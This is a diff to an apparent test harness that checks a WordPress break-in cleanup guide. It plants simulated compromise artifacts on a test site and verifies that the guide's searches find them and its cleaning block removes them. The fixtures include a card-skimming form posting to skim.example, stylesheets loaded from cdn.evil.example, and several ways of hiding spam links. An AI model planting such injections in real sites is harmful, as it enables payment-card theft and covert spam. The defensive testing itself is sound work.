@@ -55,6 +55,11 @@ export const EVIDENCE_FILES: BlockRef = {
 export const EVIDENCE_DATABASE: BlockRef = {article: SECURITY, title: "Terminal (the same administrator's shell: the database as found)"};
 /** Step 4's replacement of core by the version the site runs (review r54 MEDIUM 5). */
 export const CORE_REPLACE: BlockRef = {article: SECURITY, title: 'Terminal (the clean shell: replace core with the version the site runs)'};
+/** Step 5's cleaning of what step 3 found in the database (review r127a L3). */
+export const DATABASE_CLEANING: BlockRef = {
+  article: SECURITY,
+  title: 'Terminal (the clean shell, after the reinstall: clean what step 3 found in the database)',
+};
 
 const PLUGIN = 'akismet';
 const INTRUDER = 'wpsupport';
@@ -151,6 +156,17 @@ const INJECTED_DISGUISED = {
     name: 'wpc_checkout',
     value: '<form action="https://skim.example/c" method="post"><input name="card"></form>',
     missed: 'a form posting elsewhere',
+  },
+  // A stylesheet from elsewhere can hide, overlay or add content (review r127a L2): linked, and imported
+  linkedStylesheet: {
+    name: 'wpc_head_styles',
+    value: '<link rel="stylesheet" href="https://cdn.evil.example/x.css">',
+    missed: 'a stylesheet linked from elsewhere',
+  },
+  importedStylesheet: {
+    name: 'wpc_inline_styles',
+    value: '<style>@import url(https://cdn.evil.example/y.css);</style>',
+    missed: 'a stylesheet imported from elsewhere',
   },
 };
 /**
@@ -298,6 +314,82 @@ const HIDDEN_WIDGET = {name: 'wpc_footer_links', value: '<div style="display:non
 /** The same link in an author's bio and in a comment (review r126a M1), and a page whose small print hides nothing. */
 const HIDDEN_LINK = '<span style="display:none"><a href="https://pills.example/">pills</a></span>';
 const SMALL_PRINT_PAGE = {page: 'Our menu', content: '<p style="font-size:0.9em">Prices include VAT.</p>'};
+/**
+ * Links hidden in ways the hidden-link search misses (review r127a M1), each to a domain of its own and in a
+ * place of its own, which the list of outside domains must name: transparent text on a page, 2px text in a
+ * widget's option, a link under a white box in a page builder's field, the theme's screen-reader-text class
+ * (with no CSS in the row at all, and a link without its scheme) in a category's description. The page also
+ * links to the site itself, with www and without, which the list leaves out.
+ */
+const LINKED_SPAM_PAGE = {
+  page: 'Our clients',
+  content:
+    '<a href="https://clear-casino.example/" style="color:transparent">casino</a> <a href="https://www.example.com/contact/">Contact</a> <a href="HTTPS://EXAMPLE.COM/">Home</a> <a href="https:&#47;&#47;entity-loans.example/" style="color:#fff">loans</a>',
+};
+/**
+ * A link as Elementor stores it (review r128a M1): its data is JSON with every slash escaped (\/), and the widget
+ * hidden by the builder's own classes. Written straight into the table, as WP-CLI would unslash it.
+ */
+const LINKED_SPAM_JSON = {
+  post: 2,
+  key: '_elementor_data',
+  value: '[{"settings":{"editor":"<a href=\\"https:\\/\\/json-pills.example\\/\\">pills<\\/a>","hide_desktop":"hidden-desktop"}}]',
+};
+const LINKED_SPAM_OPTION = {name: 'wpc_sidebar_links', value: '<a href="https://tiny-pills.example/" style="font-size:2px">pills</a>'};
+const LINKED_SPAM_META = {
+  post: 2,
+  key: '_wpc_banner',
+  value:
+    '<div style="position:relative"><a href="https://under-loans.example/" style="position:absolute;z-index:-1">loans</a><div style="position:relative;background:#fff">Welcome</div></div>',
+};
+const LINKED_SPAM_TERM = {
+  id: INJECTED_ELSEWHERE.termId,
+  link: '<span class="screen-reader-text"><a href="//reader-pharma.example/">pharmacy</a></span>',
+};
+/** Each domain, and the one place the list must name for it (a pattern: the page's ID is the site's). */
+const LINKED_SPAM = [
+  {domain: 'clear-casino.example', place: 'page:\\d+', how: `transparent text on the page "${LINKED_SPAM_PAGE.page}"`},
+  {domain: 'tiny-pills.example', place: `option:${LINKED_SPAM_OPTION.name}`, how: `2px text in the option ${LINKED_SPAM_OPTION.name}`},
+  {
+    domain: 'under-loans.example',
+    place: `postmeta:${LINKED_SPAM_META.post}`,
+    how: `a link under a white box in post ${LINKED_SPAM_META.post}'s field ${LINKED_SPAM_META.key}`,
+  },
+  {
+    domain: 'reader-pharma.example',
+    place: `term:${LINKED_SPAM_TERM.id}`,
+    how: `the screen-reader-text class in category ${LINKED_SPAM_TERM.id}'s description`,
+  },
+  {
+    domain: 'json-pills.example',
+    place: `postmeta:${LINKED_SPAM_JSON.post}`,
+    how: `a link with JSON-escaped slashes in ${LINKED_SPAM_JSON.key}`,
+  },
+  {domain: 'entity-loans.example', place: 'page:\\d+', how: `a link whose slashes are &#47; on the page "${LINKED_SPAM_PAGE.page}"`},
+];
+/** Custom HTML widgets (a serialized option): the script in instance 2, which step 5 empties, and instance 3 to keep. */
+const INJECTED_WIDGETS = {'2': {title: '', content: INJECTED}, '3': {title: 'Hours', content: 'Open 9 to 5'}, _multiwidget: 1};
+/**
+ * Step 5's cleaning block run as the reader would on what the break-in left, each example ID set to the planted
+ * one and the editor's step done by sed: [what the page says, what runs, as the notes say it].
+ */
+const CLEANING_STEPS: [string, string, string][] = [
+  [' post get 4 ', ' post get 1 ', 'post 4 as post 1, which holds the script'],
+  [' post update 4 ', ' post update 1 ', ''],
+  [' --post_parent=4 ', ' --post_parent=1 ', ''],
+  ['nano "$F"', `sed -i 's#${INJECTED}##' "$F"`, 'the edit in nano done by sed: the script taken out'],
+  [
+    ' term update category 12 ',
+    ` term update category ${INJECTED_ELSEWHERE.termId} `,
+    `category 12 as ${INJECTED_ELSEWHERE.termId}, comment 2 as ${INJECTED_ELSEWHERE.commentId}`,
+  ],
+  [' comment update 2 ', ` comment update ${INJECTED_ELSEWHERE.commentId} `, ''],
+  [
+    " post meta update 38 _menu_item_url 'https://example.com/'",
+    ` post meta update 1 ${INJECTED_META} ''`,
+    `menu item 38's _menu_item_url as post 1's ${INJECTED_META}, emptied`,
+  ],
+];
 /** A category whose name holds the script (review r126a H1): core prints term names unescaped. */
 const INJECTED_TERM_NAME = {id: 90, name: 'Deals'};
 /** The hidden-link search as the page printed it before reviews r119a, r121a and r122a: the proofs swap them in. */
@@ -403,6 +495,9 @@ wp --path=${SITE.root} --skip-plugins --skip-themes post meta add ${INJECTED_WID
 wp --path=${SITE.root} --skip-plugins --skip-themes option add ${INJECTED_WIDER.writeOption.name} '${INJECTED_WIDER.writeOption.value}' >/dev/null
 wp --path=${SITE.root} --skip-plugins --skip-themes post meta add ${INJECTED_WIDER.builderMeta.post} ${INJECTED_WIDER.builderMeta.key} '${INJECTED_WIDER.builderMeta.value}' >/dev/null
 wp --path=${SITE.root} --skip-plugins --skip-themes option add ${HIDDEN_WIDGET.name} '${HIDDEN_WIDGET.value}' >/dev/null
+wp --path=${SITE.root} --skip-plugins --skip-themes option update widget_custom_html '${JSON.stringify(INJECTED_WIDGETS)}' --format=json >/dev/null
+wp --path=${SITE.root} --skip-plugins --skip-themes option add ${LINKED_SPAM_OPTION.name} '${LINKED_SPAM_OPTION.value}' >/dev/null
+wp --path=${SITE.root} --skip-plugins --skip-themes post meta add ${LINKED_SPAM_META.post} ${LINKED_SPAM_META.key} '${LINKED_SPAM_META.value}' >/dev/null
 ${Object.values(INJECTED_DISGUISED)
   .map(({name, value}) => `wp --path=${SITE.root} --skip-plugins --skip-themes option add ${name} '${value}' >/dev/null`)
   .join('\n')}
@@ -419,9 +514,18 @@ CREATE TRIGGER \`${PASSWORD_TRIGGER}\` BEFORE UPDATE ON wp_users FOR EACH ROW SE
 SQL
 # Straight into the table: wp post create would pass it through kses, as WP-CLI runs as no user
 wp --path=${SITE.root} db query "UPDATE wp_posts SET post_content = CONCAT(post_content, '${INJECTED}') WHERE ID = 1"
+# And a revision of post 1 holding it, which the editor's Restore would bring back (review r127a L3)
+wp --path=${SITE.root} db query <<'SQL'
+INSERT INTO wp_posts (post_author, post_date, post_date_gmt, post_content, post_title, post_excerpt, post_status,
+  post_name, to_ping, pinged, post_modified, post_modified_gmt, post_content_filtered, post_parent, post_type)
+SELECT post_author, post_date, post_date_gmt, post_content, post_title, '', 'inherit', '1-revision-v1', '', '',
+  post_modified, post_modified_gmt, '', ID, 'revision' FROM wp_posts WHERE ID = 1
+SQL
 wp --path=${SITE.root} db query <<'SQL'
 UPDATE wp_posts SET post_excerpt = '${INJECTED_HANDLER}' WHERE ID = ${INJECTED_ELSEWHERE.excerptOf};
 UPDATE wp_term_taxonomy SET description = '${INJECTED}' WHERE term_id = ${INJECTED_ELSEWHERE.termId};
+UPDATE wp_term_taxonomy SET description = CONCAT(description, '${LINKED_SPAM_TERM.link}') WHERE term_id = ${LINKED_SPAM_TERM.id};
+INSERT INTO wp_postmeta (post_id, meta_key, meta_value) VALUES (${LINKED_SPAM_JSON.post}, '${LINKED_SPAM_JSON.key}', '${LINKED_SPAM_JSON.value.replaceAll('\\', '\\\\')}');
 INSERT INTO wp_terms (term_id, name, slug) VALUES (${INJECTED_TERM_NAME.id}, '${INJECTED_TERM_NAME.name}${INJECTED}', 'deals');
 INSERT INTO wp_term_taxonomy (term_id, taxonomy, description) VALUES (${INJECTED_TERM_NAME.id}, 'category', '');
 UPDATE wp_usermeta SET meta_value = '${HIDDEN_LINK}' WHERE user_id = 1 AND meta_key = 'description';
@@ -438,12 +542,15 @@ SQL
 wp --path=${SITE.root} db query <<'SQL'
 ${wooCommerceKeyAndWebhook('wp_', '1', SHOP_KEY, SHOP_WEBHOOK)}
 SQL
-${HIDDEN_SPAM.map(
-  ({page}) =>
-    `wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${page}' --post_date='2020-05-01 09:00:00' --post_content='Meet us.' --porcelain >/dev/null`,
-).join('\n')}
+${[...HIDDEN_SPAM, LINKED_SPAM_PAGE]
+  .map(
+    ({page}) =>
+      `wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${page}' --post_date='2020-05-01 09:00:00' --post_content='Meet us.' --porcelain >/dev/null`,
+  )
+  .join('\n')}
 wp --path=${SITE.root} db query <<'SQL'
 ${HIDDEN_SPAM.map(({page, link}) => `UPDATE wp_posts SET post_content = CONCAT(post_content, '${link}') WHERE post_title = '${page}';`).join('\n')}
+UPDATE wp_posts SET post_content = '${LINKED_SPAM_PAGE.content}' WHERE post_title = '${LINKED_SPAM_PAGE.page}';
 SQL
 wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${SMALL_PRINT_PAGE.page}' --post_date='2020-05-01 09:00:00' --post_content='${SMALL_PRINT_PAGE.content}' --porcelain >/dev/null
 wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${SPAM_PAGE}' --post_content='<a href="https://spam.example/">watches</a>' --porcelain >/dev/null
@@ -1025,13 +1132,28 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       `the search for links hidden by CSS outside posts lists the option ${HIDDEN_WIDGET.name}, a widget's display:none link`,
       () => `the checks that load WordPress did not list the option ${HIDDEN_WIDGET.name} with a link hidden by CSS:\n${loaded}`,
     );
+    const missedDomains = LINKED_SPAM.filter(
+      ({domain, place}) => !new RegExp(`^${escapeRegExp(domain)}\\t\\d+\\t(?:.* )?${place}(?: .*)?$`, 'm').test(loaded),
+    );
+    ctx.expect(
+      missedDomains.length === 0,
+      LOADING_CHECKS,
+      `the list of outside domains names each link the hidden-link search misses, with its place: ${LINKED_SPAM.map(({domain, how}) => `${domain} (${how})`).join(', ')}`,
+      () => `the checks that load WordPress did not list the domains ${missedDomains.map(({domain}) => domain).join(', ')}:\n${loaded}`,
+    );
+    ctx.expect(
+      !/^(?:www\.)?example\.com\t/m.test(loaded),
+      LOADING_CHECKS,
+      `the list leaves out the site's own domain, which the page "${LINKED_SPAM_PAGE.page}" links to with www and in capitals`,
+      () => `the checks that load WordPress listed the site's own domain as an outside one:\n${loaded}`,
+    );
     const missedDisguised = Object.values(INJECTED_DISGUISED)
       .filter(({name}) => !new RegExp(`^\\d+\\t${name}$`, 'm').test(loaded))
       .map(({name, missed}) => `${missed} in ${name}`);
     ctx.expect(
       missedDisguised.length === 0,
       LOADING_CHECKS,
-      `the searches also find a handler stuck to a quoted attribute in the option ${INJECTED_DISGUISED.quotedHandler.name}, one after a > inside a quoted value in ${INJECTED_DISGUISED.gtInValue.name}, &#106 without its semicolon in ${INJECTED_DISGUISED.entityNoSemicolon.name}, jav&#x61;script: in ${INJECTED_DISGUISED.entityLaterLetter.name}, java&#9;script: in ${INJECTED_DISGUISED.entityTab.name}, jav(tab)ascript: in ${INJECTED_DISGUISED.rawTab.name}, twelve tabs in ${INJECTED_DISGUISED.manyTabs.name} and a form posting elsewhere in ${INJECTED_DISGUISED.formSkimmer.name}`,
+      `the searches also find a handler stuck to a quoted attribute in the option ${INJECTED_DISGUISED.quotedHandler.name}, one after a > inside a quoted value in ${INJECTED_DISGUISED.gtInValue.name}, &#106 without its semicolon in ${INJECTED_DISGUISED.entityNoSemicolon.name}, jav&#x61;script: in ${INJECTED_DISGUISED.entityLaterLetter.name}, java&#9;script: in ${INJECTED_DISGUISED.entityTab.name}, jav(tab)ascript: in ${INJECTED_DISGUISED.rawTab.name}, twelve tabs in ${INJECTED_DISGUISED.manyTabs.name}, a form posting elsewhere in ${INJECTED_DISGUISED.formSkimmer.name} and a stylesheet from elsewhere, linked in ${INJECTED_DISGUISED.linkedStylesheet.name} and imported in ${INJECTED_DISGUISED.importedStylesheet.name}`,
       () => `the searches for injected code missed ${missedDisguised.join(', ')}:\n${loaded}`,
     );
     ctx.expect(
@@ -1161,6 +1283,7 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       () =>
         `replacing core left ${stillPlanted} planted lines in functions.php and ${HTTP_LIBRARY_FILE}, or the check warned of ${warnings(replaced).join('; ') || 'nothing'}, not exactly ${coreAfter.join('; ')}:\n${replaced}`,
     );
+    await checkDatabaseCleaning(ctx, shell);
   });
 
   // Then clean: the same blocks on the site as installed must report nothing.
@@ -1210,6 +1333,67 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
     LOADING_CHECKS,
     'on the clean site, the WordPress checks list the one administrator, grants for the database user on its own database alone, users_can_register 0, default_role subscriber and the admin email as installed, the one plugin, no injected code, only administrator as a role that can take the site, no shop key or webhook and no database error (no WooCommerce tables), and verify the plugin',
     () => `on the clean site the checks that load WordPress printed:\n${loadedClean}`,
+  );
+}
+
+/**
+ * Step 5's cleaning block (review r127a L3), after the core replacement as on the page, on what step 3 found: post 1's
+ * script and the revision holding it, category 1's description, comment 1, user 1's bio, post 1's page-builder field,
+ * one instance of a serialized widget, and the hidden link in an option by search-replace (its dry run first).
+ */
+async function checkDatabaseCleaning(ctx: RecipeContext, shell: CleanShell) {
+  const ws = ctx.workspace;
+  let block = ctx.block(DATABASE_CLEANING).value;
+  for (const [from, to, said] of CLEANING_STEPS) {
+    const next = block.replace(from, to);
+    if (next === block) ctx.fail(DATABASE_CLEANING, `no "${from.trim()}" in the block to run it with ${to.trim()}`);
+    block = next;
+    if (said) ws.note(SECURITY, from.trim(), said);
+  }
+  const db = (query: string) => admin(ws, query, SITE.database);
+  const hiddenLinkBefore = db(`SELECT option_value FROM wp_options WHERE option_name = '${HIDDEN_WIDGET.name}'`);
+  // A command that reads the rest of the paste as its input hangs the shell: a failure of this block
+  const cleaned = await shell.paste(block).catch((error: Error) => ctx.fail(DATABASE_CLEANING, error.message));
+  ctx.expect(
+    /^Success: 1 replacement to be made\.$/m.test(cleaned) &&
+      db(`SELECT option_value FROM wp_options WHERE option_name = '${HIDDEN_WIDGET.name}'`) === hiddenLinkBefore,
+    DATABASE_CLEANING,
+    `the dry run of search-replace counts the hidden link in the option ${HIDDEN_WIDGET.name} and changes nothing`,
+    () => `the dry run did not count one replacement, or changed the option:\n${cleaned}`,
+  );
+  // Then without --dry-run, as the block's comment says
+  const real = await shell.paste(commandsOf(block).at(-1)!.replace(' --dry-run', ''));
+  const left = {
+    post: db(`SELECT COUNT(*) FROM wp_posts WHERE ID = 1 AND post_content LIKE '%${INJECTED}%'`),
+    revisions: db(`SELECT COUNT(*) FROM wp_posts WHERE post_parent = 1 AND post_type = 'revision' AND post_content LIKE '%${INJECTED}%'`),
+    term: db(`SELECT description FROM wp_term_taxonomy WHERE term_id = ${INJECTED_ELSEWHERE.termId}`),
+    comment: db(`SELECT comment_content FROM wp_comments WHERE comment_ID = ${INJECTED_ELSEWHERE.commentId}`),
+    bio: db("SELECT meta_value FROM wp_usermeta WHERE user_id = 1 AND meta_key = 'description'"),
+    field: db(`SELECT meta_value FROM wp_postmeta WHERE post_id = 1 AND meta_key = '${INJECTED_META}'`),
+    link: db(`SELECT option_value FROM wp_options WHERE option_name = '${HIDDEN_WIDGET.name}'`),
+  };
+  const widgets = await shell.paste(
+    `wp --path="$SITE" --skip-plugins --skip-themes eval 'echo json_encode(get_option("widget_custom_html")), "\\n";'`,
+  );
+  const keptWidget = {...INJECTED_WIDGETS, '2': {title: '', content: ''}};
+  ctx.expect(
+    left.post === '0' &&
+      left.term === 'Our news' &&
+      left.comment === 'Thanks for the tip.' &&
+      left.bio === '' &&
+      left.field === '' &&
+      left.link === '' &&
+      widgets.trim() === JSON.stringify(keptWidget),
+    DATABASE_CLEANING,
+    `the cleaning takes the script out of post 1 and deletes the revision holding it, sets category ${INJECTED_ELSEWHERE.termId}'s description, comment ${INJECTED_ELSEWHERE.commentId} and user 1's bio anew, empties post 1's ${INJECTED_META}, empties widget 2 of widget_custom_html and keeps widget 3 and the option readable, and search-replace takes the hidden link out of ${HIDDEN_WIDGET.name}`,
+    () =>
+      `after the cleaning block: ${JSON.stringify(left)}; widget_custom_html is ${widgets.trim()}, not ${JSON.stringify(keptWidget)}:\n${cleaned}\n${real}`,
+  );
+  ctx.expect(
+    left.revisions === '0',
+    DATABASE_CLEANING,
+    "the cleaning deletes post 1's revisions: none keeps the script",
+    () => `post 1 still has ${left.revisions} revisions holding the script after the cleaning block:\n${cleaned}`,
   );
 }
 
@@ -1429,6 +1613,51 @@ done < <(wp --path="$SITE" --skip-plugins --skip-themes role list --field=role) 
       // The query and its indented lines
       edit: replace(/^wp --path="\$SITE" db query "SELECT 'option' AS hidden_in.*\n(?: {2}.*\n)*/m, ''),
       expect: /did not list user 1's bio or comment 1 with a link hidden by CSS/,
+    },
+    {
+      what: 'leave out the list of outside domains (review r127a M1)',
+      ref: LOADING_CHECKS,
+      edit: replace(/^links wp_\n/m, ''),
+      expect:
+        /did not list the domains clear-casino\.example, tiny-pills\.example, under-loans\.example, reader-pharma\.example, json-pills\.example, entity-loans\.example:/,
+    },
+    {
+      what: 'read links only where their slashes are written as // (before review r128a M1)',
+      ref: LOADING_CHECKS,
+      edit: (text) => text.replace(/REGEXP_REPLACE\(t\.body, CONCAT\('\[', CHAR\(92\)[^\n]*\n {2}'\/'\), /, 't.body, '),
+      expect: /did not list the domains json-pills\.example, entity-loans\.example:/,
+    },
+    {
+      what: "compare each domain with the site's own without taking www off",
+      ref: LOADING_CHECKS,
+      edit: replace("BINARY LOWER(REGEXP_REPLACE(h.host, '^www[.]', '')) <>", 'BINARY LOWER(h.host) <>'),
+      expect: /listed the site's own domain as an outside one/,
+    },
+    {
+      what: 'search for injected code without stylesheets from elsewhere (before review r127a L2)',
+      ref: LOADING_CHECKS,
+      edit: replace('|<link[[:space:]]|@import', ''),
+      expect: /missed a stylesheet linked from elsewhere in wpc_head_styles, a stylesheet imported from elsewhere in wpc_inline_styles:/,
+    },
+    {
+      what: 'write a whole serialized option anew instead of one key in it (review r127a L3)',
+      ref: DATABASE_CLEANING,
+      edit: replace("option patch update widget_custom_html 2 content ''", "option update widget_custom_html ''"),
+      expect: /after the cleaning block: .*widget_custom_html is ""/,
+    },
+    {
+      what: 'let option patch read the lines pasted after it (no </dev/null)',
+      ref: DATABASE_CLEANING,
+      edit: replace(" content '' </dev/null", " content ''"),
+      // It reads to the end of the input, as in a terminal the paste's: the shell waits until the harness gives up
+      expect: /hung in a block for 120 s/,
+    },
+    {
+      what: "keep post 1's revisions (review r127a L3)",
+      ref: DATABASE_CLEANING,
+      // Only the delete line: the run sets the ID in the listing line before it
+      edit: replace(/^\[ -z "\$R" \] \|\| .*\n/m, ''),
+      expect: /post 1 still has 1 revisions holding the script/,
     },
     {
       what: 'search for a meta refresh with the pattern before review r119a (no spaces around =)',
